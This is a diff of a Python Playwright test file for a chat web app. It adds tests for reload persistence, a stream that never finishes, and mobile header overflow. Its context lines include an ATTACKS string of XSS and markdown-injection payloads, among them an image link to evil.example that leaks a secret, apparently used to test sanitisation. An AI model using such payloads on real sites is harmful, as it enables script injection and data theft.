@@ -116,6 +116,66 @@ def test_a_chat_streams_and_stops(page: Any, served: Server) -> None:
     expect(answers).to_have_count(0)
 
 
+NEVER_ENDS = """() => {
+  const chunk = 'data: {"choices": [{"delta": {"content": "Once"}}]}\\n\\n';
+  const start = (stream) => stream.enqueue(new TextEncoder().encode(chunk));
+  window.fetch = async () => new Response(new ReadableStream({ start }));
+}"""
+
+
+def test_a_chat_is_there_after_a_reload(page: Any) -> None:
+    asked: list[dict[str, Any]] = []
+    page.on("request", lambda each: each.post_data and asked.append(each.post_data_json))
+    answer_with(page, {"reasoning": "Let me *think*."}, {"content": "It is **42**."})
+    say(page, "What is 12 + 30?")
+    answers = page.get_by_role("article", name="Answer")
+    expect(answers.last).to_contain_text("first after")
+    page.reload()
+    expect(answers).to_have_count(1)
+    expect(answers.last.locator("strong")).to_have_text("42")
+    expect(answers.last.locator("summary")).to_have_text("Thought")
+    expect(answers.last).to_contain_text("first after")
+    expect(page.get_by_role("article", name="You")).to_contain_text("12 + 30")
+    say(page, "And twice that?")
+    expect(answers).to_have_count(2)
+    expect(answers.last).to_contain_text("first after")
+    assert asked[-1]["messages"] == [
+        {"role": "user", "content": "What is 12 + 30?"},
+        {"role": "assistant", "content": "It is **42**."},
+        {"role": "user", "content": "And twice that?"},
+    ]
+    page.reload()
+    answers.first.get_by_role("button", name="Try again").click()
+    expect(answers).to_have_count(1)
+    assert len(asked[-1]["messages"]) == 1
+    page.evaluate(NEVER_ENDS)
+    say(page, "Tell me a story about a fox.")
+    expect(answers.last.locator(".text").last).to_contain_text("Once")
+    page.reload()
+    expect(answers.last).to_contain_text("the page was left")
+    page.get_by_role("button", name="Clear").click()
+    page.reload()
+    expect(page.get_by_role("heading", name="What shall it be?")).to_be_visible()
+    expect(answers).to_have_count(0)
+
+
+CUT_OFF = """() => [...document.querySelectorAll("header, header *")].filter(
+  (each) => each.clientWidth && each.scrollWidth > each.clientWidth
+    || each.getBoundingClientRect().right > innerWidth).map((each) => each.outerHTML)"""
+
+
+def test_what_is_known_of_graphs_is_whole_on_a_phone(page: Any) -> None:
+    page.set_viewport_size({"width": 375, "height": 700})
+    pill = page.locator("#health")
+    expect(pill).to_contain_text("right")
+    for text in (None, "12 wrong", "draining"):
+        if text is not None:
+            page.evaluate(
+                "text => document.querySelector('#health .short').textContent = text", text
+            )
+        assert page.evaluate(CUT_OFF) == []
+
+
 ATTACKS = """<img src=x onerror="window.hit=1"><script>window.hit=1</script>
 [a](javascript:window.hit=1) [b](  JaVaScRiPt:window.hit=1) [c](data:text/html,<script>1</script>)
 ![d](https://evil.example/leak?q=secret) <javascript:window.hit=1> [e](/v1/models "x" onclick=1)
@@ -217,7 +277,7 @@ def test_a_key_is_asked_for_and_holds(browser: Any, served: Server) -> None:
         field.press("Enter")
         if key == "wrong":
             expect(page.get_by_text("does not take this key")).to_be_visible()
-    expect(page.locator("#health")).to_contain_text("none wrong")
+    expect(page.locator("#health .long")).to_contain_text("none wrong")
     assert KEY not in json.dumps(page.evaluate("({...localStorage})"))
     context.close()
 
@@ -232,7 +292,7 @@ def test_nothing_serious_for_axe_and_pictures(page: Any) -> None:
     page.get_by_role("button", name="Settings").click()
     page.get_by_label("Max tokens").fill("40" if pictures else "16")
     page.keyboard.press("Escape")
-    expect(page.locator("#health")).to_contain_text("none wrong")
+    expect(page.locator("#health .long")).to_contain_text("none wrong")
     for text in ("What is 12 + 30?", "Tell me a story about a fox."):
         say(page, text)
         expect(page.get_by_role("article", name="Answer").last).to_contain_text("first after")
